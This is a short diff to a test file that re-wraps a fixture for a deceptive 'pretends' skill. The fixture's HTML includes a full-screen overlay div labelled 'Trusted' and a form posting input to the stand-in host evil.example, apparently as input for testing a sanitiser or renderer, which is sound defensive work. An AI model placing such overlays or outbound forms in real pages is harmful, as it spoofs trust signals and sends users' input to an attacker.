@@ -31,8 +31,10 @@ beforeAll(async () => {
     skill({
       slug: "pretends",
       body: [
-        '# main\n\n#### install\n\n[top](#install)\n\n<div style="position:fixed;inset:0" class="trust" id="trust">Trusted</div>',
-        '<form action="https://evil.example"><input name="q"></form>\n\n![ok](https://img.example/a.png)\n\n![plain](http://img.example/b.png)',
+        '# main\n\n#### install\n\n[top](#install)\n\n<div style="position:fixed;inset:0" ' +
+          'class="trust" id="trust">Trusted</div>',
+        '<form action="https://evil.example"><input ' +
+          'name="q"></form>\n\n![ok](https://img.example/a.png)\n\n![plain](http://img.example/b.png)',
       ].join("\n\n"),
     }),
   ]);
